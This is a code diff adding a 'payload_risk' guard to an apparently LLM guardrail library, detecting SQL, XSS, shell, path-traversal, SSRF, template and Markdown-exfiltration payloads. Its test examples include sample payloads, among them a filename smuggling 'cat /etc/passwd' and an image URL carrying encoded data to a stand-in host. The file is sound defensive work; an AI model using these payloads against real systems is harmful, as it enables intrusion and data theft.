@@ -1,0 +1,159 @@
+import { SEVERITIES } from '@gatehouse/contracts'
+import { z } from 'zod'
+import { categoriesNamed, PAYLOAD_CATEGORIES } from '../detectors/payload/categories.ts'
+import type { PayloadCategory } from '../detectors/payload/categories.ts'
+import { compilePayloadRules, findPayloads, PAYLOAD_VIEWS } from '../detectors/payload/find-payloads.ts'
+import type { PayloadFinding, PayloadFindings } from '../detectors/payload/find-payloads.ts'
+import { clear, defineGuard, flag } from '../engine/guard.ts'
+import type { Outcome } from '../engine/guard.ts'
+
+/** More names than categories and aliases exist is a mistake. */
+const NAMES_MAX = 64
+
+/** A category name is short; what is longer is not one. */
+const NAME_CHARS_MAX = 64
+
+export default defineGuard({
+  name: 'payload_risk',
+  title: 'Payload risk',
+  description:
+    'Finds injection payloads by their structure: SQL and NoSQL, scripts in markup, shell commands, code, path traversal, ' +
+    'internal addresses, templates, LDAP, XML entities, serialized objects, Markdown that carries data out, terminal ' +
+    'escapes, encoded programs, headers and spreadsheet formulas. A payload that stands in code marks or quotation ' +
+    'marks inside an explanation counts as a mention: still flagged, at a lower severity. It does not find payloads ' +
+    'that need the receiving application to be understood, nor code that is harmful only in what it computes.',
+  stages: ['input', 'output'],
+  tier: 'fast',
+  backend: 'builtin',
+  owasp: ['LLM05:2025', 'LLM01:2025'],
+  views: PAYLOAD_VIEWS,
+  settings: z.object({
+    categories: z
+      .array(
+        z
+          .string()
+          .min(1)
+          .max(NAME_CHARS_MAX)
+          .refine((name) => categoriesNamed(name) !== undefined, {
+            error: (issue) =>
+              `"${String(issue.input)}" is no payload category. Known: ${PAYLOAD_CATEGORIES.join(', ')}.`,
+          }),
+      )
+      .max(NAMES_MAX)
+      .default([])
+      .describe('What to look for, by name or common alias such as sqli, rce, lfi, ssti; empty means everything.'),
+    min_severity: z
+      .enum(SEVERITIES)
+      .default('low')
+      .describe('Findings under this severity do not flag. A mention counts by its severity before it is lowered.'),
+  }),
+  prepare({ categories, min_severity }) {
+    const named = new Set<PayloadCategory>(categories.flatMap((name) => categoriesNamed(name) ?? []))
+    const scanner = compilePayloadRules(named.size === 0 ? PAYLOAD_CATEGORIES : [...named])
+    return { scanner, severityMin: SEVERITIES.indexOf(min_severity) }
+  },
+
+  check(text, { scanner, severityMin }) {
+    const found = findPayloads(text, scanner)
+    const findings = found.findings.filter((finding) => weightOf(finding) >= severityMin)
+    if (findings.length > 0) return report(findings, found)
+    return found.unread.length > 0 ? reportUnread(found) : clear
+  },
+
+  examples: [
+    { text: "admin' OR '1'='1' --", flags: true, category: 'sql_injection' },
+    { text: 'SELECT name FROM users WHERE id = 1', flags: false },
+    { text: 'Select the best union from the list; drop me a line.', flags: false },
+    { text: '<img src=x onerror=alert(1)>', flags: true, category: 'xss' },
+    {
+      text: 'report.pdf; cat /etc/passwd',
+      flags: true,
+      category: 'shell_injection',
+      redacted: 'report.pdf[SHELL_INJECTION]',
+    },
+    { text: 'Run npm install && npm test.', flags: false },
+    { text: 'GET /view?file=..%2f..%2f..%2fetc%2fpasswd', flags: true, category: 'path_traversal' },
+    { text: 'fetch http://2852039166/latest/meta-data/', flags: true, category: 'ssrf' },
+    { text: 'Dear {{name}}, thank you.', flags: false },
+    { text: 'Dear {{7*7}}, thank you.', flags: true, category: 'template_injection' },
+    {
+      says: 'categories by alias',
+      settings: { categories: ['sqli'] },
+      text: '<img src=x onerror=alert(1)>',
+      flags: false,
+    },
+    {
+      says: 'talked about, not used: still flagged, lower',
+      settings: { min_severity: 'high' },
+      text: "What is SQL injection? People often show `' OR 1=1 --` as an example.",
+      flags: true,
+      category: 'sql_injection',
+    },
+    {
+      says: 'data in the address of an image',
+      text: '![x](https://h.example/p.png?d=c2VjcmV0IGtleSBpcyBodW50ZXIy)',
+      flags: true,
+      category: 'markdown_exfiltration',
+    },
+  ],
+})
+
+/** What the finding would weigh if it were not a mention; people who set a floor still want to hear of those. */
+function weightOf(finding: PayloadFinding): number {
+  const lowered = SEVERITIES.indexOf(finding.severity)
+  return finding.mention ? Math.max(lowered, SEVERITIES.indexOf(finding.rule.severity)) : lowered
+}
+
+function report(findings: readonly PayloadFinding[], found: PayloadFindings): Outcome {
+  const worst = findings[0]!
+  const categories = [...new Set(findings.map((finding) => finding.category))]
+  const more = categories.length > 1 ? `, and ${categories.length - 1} more kinds of payload` : ''
+  return flag(
+    `The text holds a payload: ${worst.rule.title.charAt(0).toLowerCase()}${worst.rule.title.slice(1)}${more}.`,
+    {
+      spans: findings.map(({ start, end, view, category }) => ({ start, end, view, label: category.toUpperCase() })),
+      score: worst.score,
+      category: worst.category,
+      severity: worst.severity,
+      details: {
+        categories,
+        mention: findings.every((finding) => finding.mention),
+        rules: findings.map(({ rule, category, severity, view, start, end, mention }) => ({
+          id: rule.id,
+          title: rule.title,
+          category,
+          severity,
+          cwe: rule.cwe,
+          view,
+          start,
+          end,
+          mention,
+        })),
+        ...limits(found),
+      },
+    },
+  )
+}
+
+/** A text so full of look-alikes that a rule gave up has not been shown to be harmless. */
+function reportUnread(found: PayloadFindings): Outcome {
+  const [first] = found.unread
+  return flag('The text is flooded with look-alikes of payloads and could not be read to its end.', {
+    score: 0.5,
+    category: first!.category,
+    severity: 'medium',
+    details: {
+      categories: [...new Set(found.unread.map((rule) => rule.category))],
+      mention: false,
+      rules: [],
+      ...limits(found),
+    },
+  })
+}
+
+function limits({ unread, truncated }: PayloadFindings): Record<string, unknown> {
+  return {
+    ...(truncated ? { truncated } : {}),
+    ...(unread.length > 0 ? { capped: unread.map((rule) => rule.id) } : {}),
+  }
+}
